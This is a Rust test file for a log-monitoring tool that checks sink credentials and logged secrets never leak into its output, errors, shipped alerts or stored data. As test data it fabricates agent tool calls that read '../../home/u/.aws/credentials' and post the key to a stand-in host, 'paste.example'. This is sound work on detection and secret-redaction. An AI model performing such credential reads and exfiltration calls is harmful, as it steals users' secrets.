//! No credential of a sink and no secret of a log is ever said: not in what is sent, not in a message, an answer, a list, a dry run, a diagnosis,
//! an error or the lake.

use crate::common::{Place, Said};
use crate::receiver::{Receiver, Reply};
use base64::Engine as _;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

/// Stands in every credential, with characters that JSON, URLs and headers write in other ways.
const MARK: &str = "m4rk3d/s3cr3t+";
/// Everything that could say one; what plans queries knows none, and says much.
const LOG: &str = "calltrail=trace,reqwest=trace,hyper=trace,hyper_util=trace,h2=trace,rustls=trace,rskafka=trace,rsasl=trace,object_store=trace";
/// What an agent's log gave away: keys of AWS and GitHub. They are made here, so that none stands in the repository.
fn in_log() -> [String; 2] {
    [format!("AK{}", "IAZ7QWERTY2PLMNB4X"), format!("gh{}", "p_Zk3vT9qLw8XyR2mNb5Jc7Hd4Fs6Ga1Pe0Ui9")]
}

/// Every sink there is, each credential from the environment or a file.
fn configuration(port: u16) -> String {
    let http = |kind: &str, keys: &str| format!("[[sinks]]\nname = \"{kind}\"\ntype = \"{kind}\"\n{keys}\nKEEP\n");
    let url = format!("url = \"http://127.0.0.1:{port}\"");
    let secret_url = "url = { env = \"SECRET_URL\" }";
    let sinks = [
        http("stdout", "encoding = \"jsonl\""),
        http("file", "path = \"out.jsonl\""),
        http("syslog", "transport = \"tcp\"\naddress = \"127.0.0.1:9\""),
        http("splunk_hec", &format!("{url}\ntoken = {{ env = \"MARKED\" }}\nacknowledge = true")),
        http("elasticsearch", &format!("{url}\nuser = {{ env = \"MARKED\" }}\npassword = {{ file = \"marked\" }}")),
        http("opensearch", &format!("{url}\ntoken = {{ file = \"marked\" }}")),
        http("otlp", &format!("{url}\nheaders = {{ api-key = {{ file = \"marked\" }} }}")),
        http(
            "sentinel",
            &format!(
                "{url}\nauthority = \"http://127.0.0.1:{port}\"\ndcr = \"dcr\"\nstream = \"Custom-A\"\ntenant = \"t\"\nclient_id = \"c\"\n\
                 client_secret = {{ file = \"marked\" }}"
            ),
        ),
        http(
            "webhook",
            &format!("{url}\nsign_with = {{ env = \"MARKED\" }}\nheaders = {{ X-Token = {{ file = \"marked\" }} }}"),
        ),
        http("slack", secret_url),
        http("teams", secret_url),
        http("pagerduty", &format!("{url}\ntoken = {{ env = \"MARKED\" }}")),
        http("datadog", &format!("{url}\ntoken = {{ file = \"marked\" }}")),
        http("sumologic", secret_url),
        http("secops", &format!("{url}\ntoken = {{ env = \"MARKED\" }}\nproxy = {{ env = \"SECRET_PROXY\" }}")),
        http(
            "kafka",
            "brokers = [\"127.0.0.1:9\"]\ntopic = \"t\"\nuser = { env = \"MARKED\" }\npassword = { file = \"marked\" }",
        ),
    ];
    sinks.concat().replace(
        "KEEP",
        "timeout = \"2s\"\nown_events = true\nretry = { give_up = \"300ms\", first = \"50ms\", tries = 2 }",
    )
}

/// Every way in which a text could be written by accident.
fn forms(text: &str) -> Vec<String> {
    let in_url: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
    let packed = base64::engine::general_purpose::STANDARD.encode(text);
    // Three places to begin at: what stands before shifts base64 by a byte or two.
    let shifted = |by: usize| {
        let packed = base64::engine::general_purpose::STANDARD.encode(format!("{}{text}", "x".repeat(by)));
        packed[4..packed.len() - 4].to_owned()
    };
    vec![
        text.to_owned(),
        text.replace('/', "\\/"),
        in_url,
        packed.trim_end_matches('=').to_owned(),
        shifted(1),
        shifted(2),
    ]
}

#[track_caller]
fn assert_silent(what: &str, text: &str, secrets: &[&str]) {
    for form in secrets.iter().flat_map(|secret| forms(secret)) {
        if let Some(at) = text.find(&form) {
            let from = text.floor_char_boundary(at.saturating_sub(300));
            let to = text.ceil_char_boundary((at + 200).min(text.len()));
            panic!("{what} says {form}: …{}…", &text[from..to]);
        }
    }
}

#[test]
fn nothing_says_a_credential_or_a_secret_of_the_log() {
    let (place, in_log) = (Place::new(), in_log());
    let secrets = [MARK, &in_log[0], &in_log[1]];
    let mut calls = String::new();
    let message = |second: usize, direction: &str, message: Value| {
        let line = json!({"timestamp": format!("2026-11-11T15:20:{second:02}.000Z"), "session_id": "s-1", "agent": "notes-agent", "server": "files",
            "direction": direction, "message": message});
        format!("{line}\n")
    };
    for n in 0..6 {
        let secret = &in_log[n % 2];
        // Read, then sent out: rules see that, and their alerts carry the calls.
        let asks = [
            ("read_file", json!({"path": "../../home/u/.aws/credentials"})),
            (
                "http_post",
                json!({"url": format!("https://paste.example/{n}?k={secret}"), "body": format!("key {secret}")}),
            ),
        ];
        for (call, (tool, arguments)) in asks.into_iter().enumerate() {
            let (id, second) = (n * 2 + call, n * 8 + call * 2);
            let request = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": tool, "arguments": arguments}});
            let answer = json!({"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": format!("aws_access_key_id = {secret}")}]}});
            calls.push_str(&message(second, "client_to_server", request));
            calls.push_str(&message(second + 1, "server_to_client", answer));
        }
    }
    place.write("logs/a.jsonl", calls);
    // Whatever it is asked, it answers with what it was sent: status after status.
    let bodies: Arc<Mutex<Vec<String>>> = Arc::default();
    let (into, mut number) = (Arc::clone(&bodies), 0);
    let receiver = Receiver::http(move |request| {
        number += 1;
        let keyless = request.body.replace(MARK, "(the key of this very service)");
        into.lock().expect("not poisoned").push(keyless);
        let headers: Vec<String> = request.headers.iter().map(|(name, value)| format!("{name}: {value}")).collect();
        let echo = json!({"error": {"reason": headers, "path": request.path, "body": request.body.chars().take(3000).collect::<String>()}});
        let status = [200, 400, 500, 401, 503, 429][number % 6];
        Reply::Answer(status, "", echo.to_string())
    });
    place.write("marked", format!("{MARK}\n"));
    let config =
        place.write("calltrail.toml", format!("[ingest]\npaths = [\"logs\"]\n{}", configuration(receiver.port)));
    let mut said = String::new();
    let mut run = |code: &[i32], args: &[&str]| {
        let mut command = place.command(args);
        command.env("MARKED", MARK).env("SECRET_URL", format!("http://127.0.0.1:{}/services/{MARK}", receiver.port));
        command.env(
            "SECRET_PROXY",
            format!("http://me:{MARK}@127.0.0.1:{}", receiver.port).replace("m4rk3d/", "m4rk3d%2F"),
        );
        command.env("CALLTRAIL_LOG", LOG).args(["--config", &config.to_string_lossy()]);
        let output = command.output().expect("the binary starts");
        let text = Said::new(output.status.code().unwrap_or(-1), &output);
        assert!(
            output.status.code().is_some_and(|found| code.contains(&found)),
            "{args:?}: {}",
            text.stderr.chars().take(2000).collect::<String>()
        );
        said.push_str(&format!("{}{}", text.stdout, text.stderr));
        assert_silent(&args.join(" "), &format!("{}{}", text.stdout, text.stderr), &secrets);
    };
    run(&[1], &["run", "--no-model", "--rule", "secret_then_egress", "--rule", "path_traversal"]);
    for args in [
        &["ship", "--dry-run"][..],
        &["sinks", "list"],
        &["sinks", "list", "--format", "json"],
        &["alerts", "export", "--format", "ocsf"],
        &["query", "SELECT * FROM deliveries"],
        &["query", "--format", "jsonl", "SELECT * FROM alerts"],
    ] {
        run(&[0], args);
    }
    run(&[1], &["sinks", "check"]);
    run(&[1], &["ship", "--format", "json"]);
    run(&[1], &["ship", "--retry-refused"]);
    assert!(said.contains("[secret]"), "no answer repeated a credential: this test tests nothing");
    let spans: BTreeSet<&str> =
        ["run", "ship", "sink", "batch"].into_iter().filter(|span| said.contains(&format!("{span}{{"))).collect();
    assert!(spans.contains("sink") && spans.contains("batch"), "{spans:?}");
    let bodies = bodies.lock().expect("not poisoned").join("\n");
    assert!(bodies.contains("paste.example") && bodies.contains("[secret:"), "alerts tell of the secrets");
    assert_silent("what is sent", &bodies, &secrets[1..]);
    for entry in
        walkdir::WalkDir::new(place.path("lake")).into_iter().flatten().filter(|entry| entry.file_type().is_file())
    {
        let bytes = std::fs::read(entry.path()).expect("readable");
        assert_silent(&entry.path().to_string_lossy(), &String::from_utf8_lossy(&bytes), &secrets);
    }
}

#[test]
fn what_is_wrong_with_a_credential_is_said_without_it() {
    let place = Place::new();
    place.write("out.jsonl", "");
    for (keys, names) in [
        (format!("type = \"splunk_hec\"\nurl = \"http://127.0.0.1:9\"\ntoken = \"{MARK}\""), "token"),
        (format!("type = \"slack\"\nurl = \"https://hooks.example/{MARK}\""), "url"),
        (format!("type = \"webhook\"\nurl = \"http://127.0.0.1:9\"\nsign_with = \"{MARK}\""), "sign_with"),
        (
            format!("type = \"webhook\"\nurl = \"http://127.0.0.1:9\"\nheaders = {{ Authorization = \"{MARK}\" }}"),
            "Authorization",
        ),
        (format!("type = \"webhook\"\nurl = \"http://127.0.0.1:9\"\nuser = \"me\"\npassword = \"{MARK}\""), "password"),
        (format!("type = \"webhook\"\nurl = \"http://me:{MARK}@127.0.0.1:9\""), "calltrail.toml:3"),
        (
            format!(
                "type = \"webhook\"\nurl = \"http://127.0.0.1:9\"\nproxy = \"http://me:{}@127.0.0.1:9\"",
                MARK.replace('/', "")
            ),
            "calltrail.toml:4",
        ),
        // Not a credential's place, but a slip of the pen puts one there.
        ("type = \"webhook\"\nurl = { env = \"MARKED\" }".to_owned(), "url"),
        (
            "type = \"webhook\"\nurl = \"http://127.0.0.1:9\"\nheaders = { X-Key = { env = \"TORN\" } }".to_owned(),
            "X-Key",
        ),
        (
            format!(
                "type = \"kafka\"\nbrokers = [\"127.0.0.1:9\"]\ntopic = \"t\"\nuser = \"me\"\npassword = \"{MARK}\""
            ),
            "password",
        ),
    ] {
        let config = place.write("calltrail.toml", format!("[[sinks]]\n{keys}\n"));
        let mut command = place.command(["sinks", "check", "--config", &config.to_string_lossy()]);
        command.env("MARKED", MARK).env("TORN", format!("{MARK}\u{7f}x\ny"));
        let said = Said::new(2, &command.output().expect("the binary starts"));
        let text = format!("{}{}", said.stdout, said.stderr);
        assert!(text.contains(names), "{keys}: {text}");
        assert_silent(names, &text, &[MARK]);
        assert!(!text.contains("s3cr3t"), "{names}: {text}");
    }
}
